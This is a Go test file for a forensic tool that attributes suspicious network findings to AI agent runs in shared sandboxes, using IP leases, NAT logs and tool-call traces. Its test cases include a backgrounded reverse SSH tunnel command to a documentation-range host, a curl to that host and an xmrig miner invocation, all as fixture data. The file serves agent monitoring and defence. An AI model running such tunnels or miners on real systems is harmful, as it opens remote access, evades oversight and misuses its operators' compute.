package attribute

import (
	"fmt"
	"math"
	"reflect"
	"strings"
	"testing"

	"firetrail"
)

const day0 = 1_772_323_200 * second // 2026-03-01T00:00:00Z

// at is a time of the first day, seconds after midnight.
func at(s int64) int64 { return day0 + s*second }

func lease(run, addr, subject, name string, from, to int64, line int64) firetrail.Lease {
	l := firetrail.Lease{IP: ip(addr), PortLow: firetrail.Absent, PortHigh: firetrail.Absent, Start: from, End: to, StartUnc: second, EndUnc: second,
		Run: run, Subject: subject, Name: name, Quality: 1, Citation: firetrail.Citation{Source: "leases.csv", Line: line}}
	if from == firetrail.Absent {
		l.StartUnc, l.EndUnc = 0, 0
	}
	return l
}

func host(addr, name string) firetrail.Lease {
	return lease("", addr, "host", name, firetrail.Absent, firetrail.Absent, 900)
}

func run(id string, leases ...firetrail.Lease) firetrail.Run {
	r := firetrail.Run{ID: id, Start: firetrail.Absent, End: firetrail.Absent, Leases: leases}
	for _, l := range leases {
		if r.Start == firetrail.Absent || l.Start < r.Start {
			r.Start = l.Start
		}
	}
	return r
}

func call(run, args string, from, to int64, line int64) firetrail.ToolCall {
	return firetrail.ToolCall{ID: fmt.Sprintf("c-%d", line), Run: run, Start: from, End: to, Tool: "bash", Args: args, NoArgs: args == "", Citation: firetrail.Citation{Source: "trace.jsonl", Line: line}}
}

const src, dst = "10.20.3.7", "203.0.113.9"

func TestFindings(t *testing.T) {
	noon := at(12 * 3600)
	pod := func(id string, from, to int64) firetrail.Run {
		return run(id, lease(id, src, "pod", id+"-0", from, to, 3))
	}
	job := func(id string, from, to int64) firetrail.Run {
		return run(id, lease(id, src, "job", "gpu-7", from, to, 4))
	}
	wide := func(f func(string, int64, int64) firetrail.Run) firetrail.Run { return f("r-1", at(3600), at(80000)) }
	tunnel := "nohup ssh -N -R 8080:localhost:22 u@203.0.113.9 -p 443 &"
	skew := func(sec int64) Options {
		return Options{Offsets: map[string]Offset{"s1": {Shift: sec * second, Spread: second / 10, Pairs: 40}}}
	}
	for _, c := range []struct {
		name       string
		inv        firetrail.Inventory
		f          firetrail.Finding
		opt        Options
		run, level string // "" for none
		low, high  float64
		says       string // in the reasons, the contrary facts or the "unattributed"
	}{
		{name: "no inventory", f: found(sshTunnel, src, dst, 443, noon), says: "no inventory"},
		{name: "undated", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}}, f: found(sshTunnel, src, dst, 443), says: "no time"},
		{name: "pod by lease alone", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}}, f: found(sshTunnel, src, dst, 443, noon),
			run: "r-1", level: "A2", low: .9, high: .92, says: "leases.csv:3"},
		{name: "job by lease alone: the host could be it", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}}, f: found(sshTunnel, src, dst, 443, noon),
			run: "r-1", level: "A2", low: .7, high: .89, says: "machine's address"},
		{name: "call without arguments", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "", noon-5*second, noon+20*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon), run: "r-1", level: "A3", low: .9, high: .95, says: "trace.jsonl:8"},
		{name: "call that says it", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Calls: []firetrail.ToolCall{call("r-1", tunnel, noon-5*second, noon+20*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon), run: "r-1", level: "A4", low: .99, high: 1, says: "names 203.0.113.9"},
		{name: "process left running", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Calls: []firetrail.ToolCall{call("r-1", tunnel, noon-5*second, noon, 8)}},
			f: found(sshTunnel, src, dst, 443, noon, noon+4*hour, noon+7*hour), run: "r-1", level: "A4", low: .99, high: 1, says: "names 203.0.113.9"},
		{name: "daemon of the host beside an idle agent", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Hosts: []firetrail.Lease{host(src, "gpu-7")},
			Calls: []firetrail.ToolCall{call("r-1", "pip install torch", noon-2*hour, noon-hour, 8)}},
			f: found(bulkEgress, src, dst, 443, noon, noon+hour), low: 0, high: .2, says: "likelier"},
		{name: "daemon of the host beside a busy agent", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Hosts: []firetrail.Lease{host(src, "gpu-7")},
			Calls: []firetrail.ToolCall{call("r-1", "python train.py", noon-2*hour, noon+2*hour, 8)}},
			f: found(bulkEgress, src, dst, 443, noon, noon+hour), low: 0, high: .5, says: "likelier"},
		{name: "calls that hide what they do, again and again", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Hosts: []firetrail.Lease{host(src, "gpu-7")}, Calls: []firetrail.ToolCall{
			call("r-1", "python solve.py", noon, noon+20*second, 1), call("r-1", "python solve.py", noon+hour, noon+hour+20*second, 2), call("r-1", "python solve.py", noon+3*hour, noon+3*hour+20*second, 3)}},
			f: found(bulkEgress, src, dst, 443, noon+second, noon+hour+second, noon+3*hour+second), run: "r-1", level: "A3", low: .7, high: .89, says: "more than by chance"},
		{name: "one such call is chance", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Hosts: []firetrail.Lease{host(src, "gpu-7")}, Calls: []firetrail.ToolCall{call("r-1", "python solve.py", noon, noon+20*second, 1)}},
			f: found(bulkEgress, src, dst, 443, noon+second, noon+10*second, noon+15*second), low: 0, high: .5, says: "likelier"},
		{name: "no lease at that time", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), at(7200))}}, f: found(sshTunnel, src, dst, 443, noon), says: "had ended 10h0m0s before"},
		{name: "address of a host without runs", inv: firetrail.Inventory{Runs: []firetrail.Run{run("r-1", lease("r-1", "10.20.3.8", "pod", "p", at(0), at(80000), 1))}, Hosts: []firetrail.Lease{host(src, "bastion")}},
			f: found(sshTunnel, src, dst, 443, noon), says: "bastion"},
		{name: "unknown address", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}}, f: found(sshTunnel, "10.99.0.1", dst, 443, noon), says: "ever held 10.99.0.1"},
		{name: "reused within seconds, well inside the second", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon+5*second, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon+10*minute), run: "r-2", level: "A2", low: .9, high: 1},
		{name: "reused within seconds, in between", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon+5*second, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon+2*second), low: 0, high: .89, says: "nothing tells them apart"},
		{name: "reused within seconds, just after", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon+5*second, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon+30*second), run: "r-2", level: "A2", low: .7, high: .89, says: "close to it"},
		{name: "two leases share the bursts", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon, at(80000))}},
			f:   found(sshTunnel, src, dst, 443, noon-3*hour, noon-2*hour, noon-hour, noon+hour),
			run: "r-1", level: "A1", low: .6, high: .75, says: "3 of 4 bursts fall into its lease"},
		{name: "skewed clock, corrected", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "", noon, noon+10*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon+95*second), opt: skew(90), run: "r-1", level: "A3", low: .9, high: .95},
		{name: "skewed clock, not corrected", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "", noon, noon+10*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon+95*second), run: "r-1", level: "A2", low: .8, high: .89, says: "no burst falls into a tool call"},
		{name: "skewed clock, not corrected, on a machine", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Calls: []firetrail.ToolCall{call("r-1", "", noon, noon+10*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon+95*second), low: 0, high: .5, says: "likelier"},
		{name: "a pod whose calls have nothing to do with it", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "pip install torch", noon-hour, noon, 8)}},
			f: found(sshTunnel, src, dst, 443, noon+hour), run: "r-1", level: "A2", low: .55, high: .65, says: "nothing in the arguments"},
		{name: "skewed clock, but the peer is named", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "curl https://203.0.113.9/", noon, noon+10*second, 8)}},
			f: found(sshTunnel, src, dst, 443, noon+95*second), run: "r-1", level: "A2", low: .8, high: .92, says: "was not active"},
		{name: "zone error that was found", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon+30*minute), opt: skew(3600), run: "r-1", level: "A2", low: .9, high: 1},
		{name: "zone that is a guess", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", at(3600), noon), pod("r-2", noon, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon+30*minute), opt: Options{Guessed: map[string]firetrail.Guess{"s1": firetrail.GuessZone}}, run: "r-2", level: "A2", low: .7, high: .89, says: "zone"},
		{name: "missing trace beside a run that wrote the port", inv: firetrail.Inventory{
			Runs:  []firetrail.Run{run("r-1", lease("r-1", src, "sandbox", "a", at(3600), at(80000), 1)), run("r-2", lease("r-2", src, "sandbox", "b", at(3600), at(80000), 2))},
			Calls: []firetrail.ToolCall{call("r-1", "python serve.py --port 4444", noon, noon+10*second, 8)}},
			f: found(longSession, src, dst, 4444, noon), run: "r-1", level: "A1", low: .5, high: .899},
		{name: "host network pod beside the node", inv: firetrail.Inventory{Runs: []firetrail.Run{run("r-1", func() firetrail.Lease {
			l := lease("r-1", src, "pod", "default/w-0", at(3600), at(80000), 5)
			l.Shared, l.Quality, l.Host = true, .5, "gpu-7"
			return l
		}())}, Hosts: []firetrail.Lease{host(src, "gpu-7")}}, f: found(sshTunnel, src, dst, 443, noon), run: "r-1", level: "A2", low: .5, high: .85, says: "gpu-7"},
		{name: "pod behind the node's address", inv: firetrail.Inventory{Runs: []firetrail.Run{run("r-1", func() firetrail.Lease {
			l := lease("r-1", "10.244.1.5", "pod", "default/w-0", at(3600), at(80000), 5)
			l.Host = "gpu-7.lab.example"
			return l
		}())}, Hosts: []firetrail.Lease{host(src, "gpu-7")}, Calls: []firetrail.ToolCall{call("r-1", tunnel, noon-5*second, noon, 8)}},
			f: found(sshTunnel, src, dst, 443, noon), run: "r-1", level: "A4", low: .99, high: 1, says: "ran on node gpu-7"},
		{name: "a process that a call began", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(pod)}, Calls: []firetrail.ToolCall{call("r-1", "bash run.sh", noon-second, noon+second, 8)}},
			f: found(beacon, src, dst, 443, every(noon, 5*minute, 40)...), run: "r-1", level: "A3", low: .9, high: .95, says: "trace.jsonl:8"},
		{name: "what comes all the time would have come during the call as well", inv: firetrail.Inventory{Runs: []firetrail.Run{wide(job)}, Hosts: []firetrail.Lease{host(src, "gpu-7")},
			Calls: []firetrail.ToolCall{call("r-1", "curl http://203.0.113.9/", noon-5*second, noon+20*second, 8)}},
			f: found(metadata, src, dst, 443, append(every(at(7200), 2*minute, 200), noon)...), low: 0, high: .5, says: "likelier"},
		{name: "evidence before the run began", inv: firetrail.Inventory{Runs: []firetrail.Run{pod("r-1", noon, at(80000))}},
			f: found(sshTunnel, src, dst, 443, noon-2*hour, noon-hour, noon+hour), low: 0, high: .4, says: "no run held"},
		{name: "call on another node of the run", inv: firetrail.Inventory{
			Runs: []firetrail.Run{run("r-1", lease("r-1", src, "job", "gpu-7", at(3600), at(80000), 1), lease("r-1", "10.20.3.8", "job", "gpu-8", at(3600), at(80000), 2))},
			Calls: []firetrail.ToolCall{func() firetrail.ToolCall {
				c := call("r-1", tunnel, noon, noon+10*second, 8)
				c.Host = "gpu-8"
				return c
			}()}}, f: found(sshTunnel, src, dst, 443, noon), low: 0, high: .3, says: "likelier"},
	} {
		t.Run(c.name, func(t *testing.T) {
			fs := []firetrail.Finding{c.f}
			NewIndex(c.inv, c.opt).Findings(fs)
			f := &fs[0]
			sums(t, f)
			p := 0.0
			switch {
			case c.run == "" && f.Run != nil:
				t.Errorf("attributed to %+v", *f.Run)
			case c.run != "" && f.Run == nil:
				t.Fatalf("not attributed: %s; %+v", f.Unattributed, f.Candidates)
			case c.run != "":
				p = f.Run.Probability
				if f.Run.ID != c.run || f.Run.Level != c.level {
					t.Errorf("run %+v, want %s at %s", *f.Run, c.run, c.level)
				}
			default:
				for _, d := range f.Candidates {
					if d.ID != Background {
						p = max(p, d.Probability)
					}
				}
			}
			if p < c.low || p > c.high {
				t.Errorf("probability %.4f, want %g to %g", p, c.low, c.high)
			}
			text := f.Unattributed + strings.Join(f.Against, "\n")
			for _, d := range f.Candidates {
				text += strings.Join(d.Reasons, "\n")
			}
			if !strings.Contains(text, c.says) {
				t.Errorf("says nothing of %q:\n%s", c.says, text)
			}
			if (f.Run == nil) != (f.Unattributed != "") {
				t.Errorf("run %v and unattributed %q", f.Run, f.Unattributed)
			}
		})
	}
}

// sums checks that probabilities sum to 1, the background included.
func sums(t *testing.T, f *firetrail.Finding) {
	t.Helper()
	if len(f.Candidates) == 0 {
		return
	}
	sum, bg := 0.0, false
	for _, c := range f.Candidates {
		sum += c.Probability
		bg = bg || c.ID == Background
	}
	if math.Abs(sum-1) > 1e-9 || !bg {
		t.Errorf("probabilities sum to %.12f, background listed: %v", sum, bg)
	}
}

// sharing makes k sandboxes of one address; the calls of the first do it.
func sharing(k int, args string, from int64) firetrail.Inventory {
	var inv firetrail.Inventory
	for i := range k {
		id := fmt.Sprintf("r-%03d", i)
		l := lease(id, src, "sandbox", "box-"+id, at(3600), at(80000), int64(i+1))
		l.Shared = true
		inv.Runs = append(inv.Runs, run(id, l))
		other := "python step.py"
		if i == 0 {
			other = args
		}
		inv.Calls = append(inv.Calls, call(id, other, from, from+20*second, int64(i+1)))
	}
	return inv
}

func TestSharedAddress(t *testing.T) {
	noon := at(12 * 3600)
	for _, k := range []int{1, 4, 16, 64} {
		t.Run(fmt.Sprint(k), func(t *testing.T) {
			named := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon)}
			NewIndex(sharing(k, "ssh -R 1:localhost:22 u@203.0.113.9", noon-5*second), Options{}).Findings(named)
			if r := named[0].Run; r == nil || r.ID != "r-000" || r.Probability < .9 {
				t.Errorf("named peer: %+v %s", r, named[0].Unattributed)
			}
			blind := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon)}
			NewIndex(sharing(k, "", noon-5*second), Options{}).Findings(blind)
			sums(t, &blind[0])
			if len(blind[0].Candidates) != k+1 {
				t.Errorf("%d candidates, want %d and the background", len(blind[0].Candidates), k)
			}
			if r := blind[0].Run; r != nil && r.Probability >= .9 {
				t.Errorf("sure without content: %+v", r)
			}
		})
	}
}

func TestTranslatedAddress(t *testing.T) {
	noon := at(12 * 3600)
	inv := firetrail.Inventory{Runs: []firetrail.Run{
		run("r-1", lease("r-1", "10.1.0.1", "pod", "a", at(3600), at(80000), 1)),
		run("r-2", lease("r-2", "10.1.0.2", "pod", "b", at(3600), at(80000), 2)),
		run("r-3", lease("r-3", "10.1.0.3", "pod", "c", at(3600), at(80000), 3)),
	}}
	nat := func(inside, to string, when int64) firetrail.NAT {
		return firetrail.NAT{Proto: "tcp", InsideIP: ip(inside), OutsideIP: ip("198.51.100.1"), InsidePort: 40000, OutsidePort: 50000, DstIP: ip(to), DstPort: 443, Start: when, End: when + minute,
			Citation: firetrail.Citation{Source: "nat.log", Line: 7}}
	}
	f := found(sshTunnel, "198.51.100.1", dst, 443, noon)
	inv.NAT = []firetrail.NAT{nat("10.1.0.2", dst, noon), nat("10.1.0.3", "203.0.113.77", noon), nat("10.1.0.1", dst, noon-3*hour)}
	one := []firetrail.Finding{f}
	NewIndex(inv, Options{}).Findings(one)
	if r := one[0].Run; r == nil || r.ID != "r-2" || !strings.Contains(one[0].Candidates[0].Reasons[1], "nat.log:7") {
		t.Errorf("one translation fits: %+v %+v", r, one[0].Candidates)
	}
	inv.NAT = append(inv.NAT, nat("10.1.0.1", dst, noon))
	two := []firetrail.Finding{f}
	NewIndex(inv, Options{}).Findings(two)
	if two[0].Run != nil || len(two[0].Candidates) != 3 {
		t.Errorf("two insiders fit: %+v %+v", two[0].Run, two[0].Candidates)
	}
	inv.NAT = nil
	none := []firetrail.Finding{f}
	NewIndex(inv, Options{}).Findings(none)
	if none[0].Run != nil || !strings.Contains(none[0].Unattributed, "translation") {
		t.Errorf("no table: %+v", none[0].Attribution)
	}
}

// The same behaviour between runs and under several of them is the host's.
func TestRecursInIdleTime(t *testing.T) {
	inv := firetrail.Inventory{Hosts: []firetrail.Lease{host(src, "gpu-7")}, Runs: []firetrail.Run{
		run("r-1", lease("r-1", src, "job", "gpu-7", at(3600), at(7200), 1)), run("r-2", lease("r-2", src, "job", "gpu-7", at(20000), at(40000), 2))}}
	fs := []firetrail.Finding{found(bulkEgress, src, dst, 443, at(5000)), found(bulkEgress, src, dst, 443, at(10000), at(15000)), found(bulkEgress, src, dst, 443, at(25000))}
	for i := range fs {
		fs[i].ID = fmt.Sprint("f-", i)
	}
	NewIndex(inv, Options{}).Findings(fs)
	for i := range fs {
		sums(t, &fs[i])
		if fs[i].Run != nil {
			t.Errorf("finding %d carries %+v", i, *fs[i].Run)
		}
	}
}

func TestLevelRecurs(t *testing.T) {
	noon := at(12 * 3600)
	args := "ssh -R 1:localhost:22 u@203.0.113.9"
	inv := firetrail.Inventory{
		Runs:  []firetrail.Run{run("r-1", lease("r-1", src, "pod", "a", at(0), at(80000), 1)), run("r-2", lease("r-2", "10.20.3.8", "pod", "b", at(0), at(80000), 2))},
		Calls: []firetrail.ToolCall{call("r-1", args, noon, noon+second, 1), call("r-2", args, noon+hour, noon+hour+second, 2)},
	}
	fs := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon), found(sshTunnel, "10.20.3.8", dst, 443, noon+hour)}
	NewIndex(inv, Options{}).Findings(fs)
	for i := range fs {
		if fs[i].Run == nil || fs[i].Run.Level != "A5" {
			t.Errorf("finding %d: %+v", i, fs[i].Run)
		}
	}
}

func TestSameInputSameAnswer(t *testing.T) {
	noon := at(12 * 3600)
	answer := func() []firetrail.Finding {
		fs := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon, noon+hour), found(mining, src, "203.0.113.10", 3333, noon+second)}
		NewIndex(sharing(16, "./xmrig", noon-5*second), Options{}).Findings(fs)
		return fs
	}
	if a, b := answer(), answer(); !reflect.DeepEqual(a, b) {
		t.Error("two answers to one question")
	}
}
